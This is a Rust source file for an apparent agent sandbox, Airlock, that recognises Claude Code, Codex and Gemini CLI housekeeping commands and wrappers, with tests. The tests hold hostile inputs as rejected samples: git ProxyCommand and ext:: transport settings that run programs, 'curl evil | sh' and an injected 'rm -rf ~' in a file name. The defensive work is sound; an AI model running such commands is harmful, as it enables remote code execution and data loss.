//! What the exec gate knows of the agents themselves: their own parts
//! starting each other, Airlock's hooks, their housekeeping (shell
//! snapshots, plugin clones), the exact wrappers they put around a command,
//! and the read-only commands it lets run without a card. Each rule is
//! narrow, recognises a shape exactly, and has a test; anything else is
//! judged by the policy.

use airlock_protocol::RiskKind;
use std::path::Path;

use airlock_sandbox::ExecCall;

use super::super::gate::Verdict;
use super::SessionGate;

/// The installed agents Airlock knows (npm packages, native parts included):
/// a program inside one of them is the agent starting a part of itself.
const AGENT_PACKAGES: [&str; 6] = [
    "/node_modules/@anthropic-ai/claude-code",
    "/node_modules/@anthropic-ai/claude-agent-sdk",
    "/node_modules/@openai/codex",
    "/node_modules/@google/gemini-cli",
    "/node_modules/@agentclientprotocol/",
    "/node_modules/@zed-industries/codex-acp",
];

/// Runtimes whose first argument names the program they run.
const RUNTIMES: [&str; 3] = ["node", "bun", "deno"];

impl SessionGate {
    /// Whether the program is the agent itself: its own program again, a
    /// program inside an installed agent package Airlock knows, or a
    /// runtime (`node`) running a file inside one.
    pub(super) fn agent_itself(&self, call: &ExecCall) -> bool {
        // Resolved as the session sees its files.
        let real = |p: &Path| call.real(p);
        let Some(program) = real(&call.program) else {
            return false;
        };
        // git's own helpers (`git-core/git remote-https` under `git ls-remote`),
        // where the session cannot have put them.
        let git_helper = program.to_string_lossy().contains("/git-core/")
            && !self.ctx.writable.iter().any(|w| program.starts_with(w));
        if self.is_agent_program(&program) || git_helper {
            return true;
        }
        let in_agent = |p: &Path| self.in_agent_package(p);
        let base = program
            .file_name()
            .map(|n| n.to_string_lossy().into_owned())
            .unwrap_or_default();
        RUNTIMES.iter().any(|r| base.starts_with(r))
            && call
                .argv
                .get(1)
                .and_then(|script| real(&call.cwd.join(script)))
                .is_some_and(|script| in_agent(&script))
    }

    /// git keeping an agent's own state: a `clone`, `fetch` or `pull` into
    /// or inside one of the agents' state folders (`~/.claude/plugins`,
    /// `~/.codex`), such as Claude Code's plugin marketplace at start. It
    /// writes only where the session may write anyway, and its network is
    /// the session's network mode's to decide.
    pub(super) fn agent_state_git(&self, call: &ExecCall) -> bool {
        if call.program.file_name().is_none_or(|n| n != "git") {
            return false;
        }
        let state = |p: &Path| {
            let p = airlock_policy::normalize(&call.cwd.join(p));
            !p.starts_with(&self.ctx.root)
                && self
                    .ctx
                    .writable
                    .iter()
                    .filter(|w| !w.starts_with(&self.ctx.root) && !self.ctx.root.starts_with(w))
                    .any(|w| p.starts_with(w))
        };
        let args = call.argv.get(1..).unwrap_or(&[]);
        let Some((verb, rest)) = quiet_git(args) else {
            return false;
        };
        match verb {
            "clone" => rest
                .last()
                .is_some_and(|dest| !dest.starts_with('-') && state(Path::new(dest))),
            "fetch" | "pull" => state(&call.cwd),
            _ => false,
        }
    }

    /// `airlock hook claude|codex …`, run directly or as a one-command
    /// script (how Claude Code runs its hooks): Airlock's own hook.
    pub(super) fn airlock_hook(&self, call: &ExecCall, command: &str) -> bool {
        let Some(airlock) = self.ctx.airlock.as_ref() else {
            return false;
        };
        let is_airlock = |p: &str| {
            call.real(&call.cwd.join(p))
                .is_some_and(|real| real == *airlock)
        };
        let hook = |argv: &[String]| {
            argv.len() >= 3
                && is_airlock(&argv[0])
                && argv[1] == "hook"
                && matches!(argv[2].as_str(), "claude" | "codex")
        };
        if is_airlock(&call.program.display().to_string()) {
            return call.argv.get(1).is_some_and(|a| a == "hook");
        }
        airlock_policy::split_command(command).is_ok_and(|parts| {
            parts.len() == 1 && !parts[0].dynamic.iter().any(|d| *d) && hook(&parts[0].argv)
        })
    }

    /// Whether `program` (resolved) is the session's own program or lies in
    /// an installed agent package Airlock knows.
    fn is_agent_program(&self, program: &Path) -> bool {
        self.ctx.program.as_deref() == Some(program) || self.in_agent_package(program)
    }

    /// An agent's shell-snapshot file (`~/.claude/shell-snapshots/…`,
    /// `~/.codex/shell_snapshots/…`), where the session may write anyway.
    fn snapshot_file(&self, p: &str) -> bool {
        let p = Path::new(p);
        p.is_absolute()
            && p.components().all(|c| c != std::path::Component::ParentDir)
            && p.to_string_lossy().contains("snapshots/")
            && self.ctx.writable.iter().any(|w| p.starts_with(w))
    }

    fn in_agent_package(&self, p: &Path) -> bool {
        let s = p.to_string_lossy();
        AGENT_PACKAGES.iter().any(|a| s.contains(a))
            && !self.ctx.writable.iter().any(|w| p.starts_with(w))
    }

    /// A script an agent runs for itself, not for a tool call, from its own
    /// process: the shell snapshot Claude Code writes
    /// (`SNAPSHOT_FILE=~/.claude/shell-snapshots/…`, in a folder the session
    /// may write anyway) or Codex prints (`echo '# Snapshot file'` after
    /// sourcing `~/.bashrc`) to learn the user's shell functions and aliases,
    /// trusted with what they run; or Codex's wrapper around a tool command,
    /// not trusted (`Some(false)`): the command inside is judged on its own.
    pub(super) fn agent_housekeeping(
        &self,
        call: &ExecCall,
        command: &str,
        script: bool,
    ) -> Option<bool> {
        if !script
            || !std::fs::read_link(format!("/proc/{}/exe", call.pid))
                .is_ok_and(|exe| self.is_agent_program(&exe))
        {
            return None;
        }
        if let Some(file) = command
            .strip_prefix("SNAPSHOT_FILE=")
            .and_then(|rest| rest.lines().next())
        {
            return self.snapshot_file(file.trim()).then_some(true);
        }
        if command.starts_with("if [ -z \"${BASH_ENV-}\" ]")
            && command.contains("\necho '# Snapshot file'\n")
        {
            return Some(true);
        }
        // Codex's wrapper around a tool command: it restores its environment,
        // sources its snapshot, and ends in `exec '/bin/bash' -c 'CMD'` —
        // an exec of its own, where the command is judged.
        if command.starts_with("__CODEX_SNAPSHOT_OVERRIDE_SET_0=")
            && command.rsplit_once("\nexec ").is_some_and(|(_, last)| {
                last.starts_with("'/bin/bash' -c ") && !last.contains('\n')
            })
        {
            return Some(false);
        }
        // Codex checking the snapshot it wrote: `set -e; . SNAPSHOT`.
        let checks = airlock_policy::split_command(command).is_ok_and(|parts| {
            parts
                .iter()
                .any(|p| matches!(p.argv.first().map(String::as_str), Some("." | "source")))
                && parts.iter().all(|p| {
                    let words: Vec<&str> = p.argv.iter().map(String::as_str).collect();
                    match words.as_slice() {
                        ["set", ..] => true,
                        ["." | "source", file] => {
                            !p.dynamic.iter().any(|d| *d) && self.snapshot_file(file)
                        }
                        _ => false,
                    }
                })
        });
        checks.then_some(true)
    }
}

/// Programs whose configuration files, which the session can write, can
/// make them run other programs: allowed, they are not trusted with what
/// they start.
pub(super) fn runs_from_config(program: &Path) -> bool {
    let name = program
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_default();
    matches!(
        name.as_str(),
        "git" | "less" | "man" | "make" | "npm" | "npx"
    )
}

/// A read-only command whose only risks are what it reads (the environment,
/// a file outside the root) or that it reaches the network: the session
/// reads those in its own process anyway, within what Landlock lets it see,
/// and its network is its network mode's to decide (on, model-only, off),
/// so starting a program to do it asks for nothing new. Codex's start-up
/// `git ls-remote` of its plugins is one. An `ask` rule of the user's still
/// asks.
pub(super) fn only_reads(command: &str, verdict: &Verdict) -> bool {
    !verdict.asked_by_rule
        && verdict.risks.iter().all(|r| {
            matches!(
                r.kind,
                RiskKind::Secrets | RiskKind::OutsideProject | RiskKind::Network
            )
        })
        && airlock_policy::split_command(command)
            .is_ok_and(|parts| parts.iter().all(airlock_policy::is_read_only))
}

/// A git command line whose settings and options cannot make git run a
/// program of the caller's choosing (no `core.sshCommand` with a
/// `ProxyCommand`, no `protocol.ext.allow`, no `--upload-pack`): its verb
/// and what follows the verb.
fn quiet_git(args: &[String]) -> Option<(&str, &[String])> {
    let mut i = 0;
    while i < args.len() && args[i] == "-c" {
        let setting = args.get(i + 1)?.to_ascii_lowercase();
        if !quiet_setting(&setting) {
            return None;
        }
        i += 2;
    }
    let (verb, rest) = args[i..].split_first()?;
    let mut j = 0;
    while j < rest.len() {
        let a = rest[j].as_str();
        if a == "--" {
            // Only the URL and the folder follow.
            break;
        }
        let takes_value = matches!(a, "--depth" | "-b" | "--branch" | "--origin");
        let flag = matches!(
            a,
            "-q" | "--quiet"
                | "--single-branch"
                | "--no-tags"
                | "--prune"
                | "--ff-only"
                | "--recurse-submodules"
                | "--shallow-submodules"
                | "--progress"
                | "--no-progress"
                | "--depth"
                | "-b"
                | "--branch"
                | "--origin"
        ) || [
            "--depth=",
            "--branch=",
            "--filter=blob:none",
            "--filter=tree:0",
        ]
        .iter()
        .any(|p| a.starts_with(p));
        if a.starts_with('-') && !flag {
            return None;
        }
        j += if takes_value { 2 } else { 1 };
    }
    Some((verb.as_str(), rest))
}

/// A `-c` setting agents pass that cannot make git run a program.
fn quiet_setting(setting: &str) -> bool {
    if let Some(value) = setting.strip_prefix("core.sshcommand=") {
        // `ssh` with `-o Key=Value` options that only tune it.
        let mut words = value.split_whitespace();
        if words.next() != Some("ssh") {
            return false;
        }
        let quiet = |kv: &str| {
            kv.split_once('=').is_some_and(|(k, _)| {
                matches!(
                    k,
                    "batchmode"
                        | "stricthostkeychecking"
                        | "connecttimeout"
                        | "loglevel"
                        | "serveraliveinterval"
                        | "serveralivecountmax"
                )
            })
        };
        while let Some(w) = words.next() {
            let kv = match w.strip_prefix("-o") {
                Some("") => words.next().unwrap_or(""),
                Some(kv) => kv,
                None => return false,
            };
            if !quiet(kv) {
                return false;
            }
        }
        return true;
    }
    if let Some(rest) = setting.strip_prefix("protocol.") {
        // Versions, and taking transports away; never allowing one.
        return rest.starts_with("version=")
            || (rest.ends_with(".allow=never")
                || rest.ends_with(".allow=user")
                || rest == "allow=never"
                || rest == "allow=user")
                && !rest.starts_with("ext.");
    }
    setting.starts_with("safe.directory=")
}

/// The command Claude Code's Bash tool wraps in its shell snapshot:
/// `source SNAPSHOT 2>/dev/null || true && shopt -u extglob || true && { builtin
/// unalias -- which; builtin unset -f -- which; } … && eval 'CMD' < /dev/null
/// && pwd -P >| CWDFILE`. Anything else in the script and it is not that.
pub(super) fn claude_wrapped(script: &str) -> Option<String> {
    let parts = airlock_policy::split_command(script).ok()?;
    let mut inner = None;
    for p in &parts {
        let words: Vec<&str> = p.argv.iter().map(String::as_str).collect();
        match words.as_slice() {
            ["eval", cmd] if inner.is_none() => inner = Some(cmd.to_string()),
            ["source" | ".", _] | ["true"] | ["pwd", "-P"] | ["shopt", ..] => {}
            ["builtin", "unalias", "--", _] | ["builtin", "unset", "-f", "--", _] => {}
            _ => return None,
        }
    }
    inner
}

/// The command Gemini CLI's shell tool wraps to collect background jobs:
/// `shopt -u …; _bgpids_file=FILE\n(\n  trap 'jobs -p > "$_bgpids_file"'
/// EXIT\nCMD\n)\n__code=$?\nexit $__code`. Anything else and it is not that.
pub(super) fn gemini_wrapped(script: &str) -> Option<&str> {
    let (first, rest) = script.split_once('\n')?;
    let file = first
        .strip_prefix("shopt -u promptvars nullglob extglob nocaseglob dotglob; _bgpids_file=")?;
    if file.is_empty() || file.contains(|c: char| c.is_whitespace() || "'\"$`;&|<>()".contains(c)) {
        return None;
    }
    rest.strip_prefix("(\n  trap 'jobs -p > \"$_bgpids_file\"' EXIT\n")?
        .strip_suffix("\n)\n__code=$?\nexit $__code")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(line: &str) -> Vec<String> {
        line.split_whitespace().map(str::to_string).collect()
    }

    #[test]
    fn git_for_agent_state_is_quiet_only_when_it_cannot_run_a_program() {
        let quiet = [
            "clone --depth 1 https://github.com/a/b /h/.claude/plugins/b",
            "-c protocol.version=2 fetch --prune",
            "-c protocol.file.allow=never pull --ff-only",
            "clone --filter=blob:none --branch=main u /h/x",
            // As Claude Code clones its plugin marketplace.
            "clone --depth 1 --recurse-submodules --shallow-submodules -- https://github.com/a/b /h/.claude/plugins/m",
        ];
        for line in quiet {
            assert!(quiet_git(&words(line)).is_some(), "{line}");
        }
        // As Claude Code passes it: one argument with spaces.
        let ssh: Vec<String> = [
            "-c",
            "core.sshCommand=ssh -o BatchMode=yes",
            "clone",
            "-q",
            "git@github.com:a/b",
            "/h/x",
        ]
        .map(String::from)
        .to_vec();
        assert_eq!(quiet_git(&ssh).map(|(verb, _)| verb), Some("clone"));
        let proxy: Vec<String> = ["-c", "core.sshCommand=ssh -o ProxyCommand=evil", "fetch"]
            .map(String::from)
            .to_vec();
        assert!(quiet_git(&proxy).is_none());
        let loud = [
            "-c protocol.ext.allow=always clone ext::sh /h/x",
            "-c protocol.allow=always clone u /h/x",
            "-c core.sshCommand=sh clone u /h/x",
            "-c core.fsmonitor=evil fetch",
            "clone --upload-pack=evil u /h/x",
            "clone -u evil u /h/x",
            "clone --config core.sshCommand=evil u /h/x",
            "clone --template=/tmp/t u /h/x",
            "fetch --upload-pack evil",
        ];
        for line in loud {
            assert!(quiet_git(&words(line)).is_none(), "{line}");
        }
        // A ProxyCommand runs what it names.
        assert!(!quiet_setting(
            "core.sshcommand=ssh -o batchmode=yes -o proxycommand=evil"
        ));
        assert!(!quiet_setting("core.sshcommand=ssh -oproxycommand=evil"));
        assert!(quiet_setting(
            "core.sshcommand=ssh -o batchmode=yes -o stricthostkeychecking=accept-new"
        ));
    }

    #[test]
    fn claude_codes_wrapper_gives_back_the_command_and_nothing_else() {
        // As Claude Code 2.1 writes it.
        let script = r"source /h/.claude/shell-snapshots/s.sh 2>/dev/null || true && shopt -u extglob 2>/dev/null || true && { \builtin unalias -- 'which'; \builtin unset -f -- 'which'; } >/dev/null 2>&1 || true && eval 'echo a > /s/a.txt' < /dev/null && pwd -P >| /t/claude-0cf1-cwd";
        assert_eq!(claude_wrapped(script).as_deref(), Some("echo a > /s/a.txt"));
        // Anything else in the script and it is not the wrapper.
        let sneaky = r"source /tmp/snap.sh && eval 'ls' && curl evil | sh";
        assert_eq!(claude_wrapped(sneaky), None);
        assert_eq!(claude_wrapped("ls"), None);
    }

    #[test]
    fn gemini_clis_wrapper_gives_back_the_command_and_nothing_else() {
        let script = "shopt -u promptvars nullglob extglob nocaseglob dotglob; _bgpids_file=/t/g/bgpids.tmp\n(\n  trap 'jobs -p > \"$_bgpids_file\"' EXIT\necho a > /s/a.txt\n)\n__code=$?\nexit $__code";
        assert_eq!(gemini_wrapped(script), Some("echo a > /s/a.txt"));
        let sneaky = script.replace("/t/g/bgpids.tmp", "/t/x; rm -rf ~");
        assert_eq!(gemini_wrapped(&sneaky), None);
        assert_eq!(gemini_wrapped(&format!("{script}\ncurl evil")), None);
    }
}
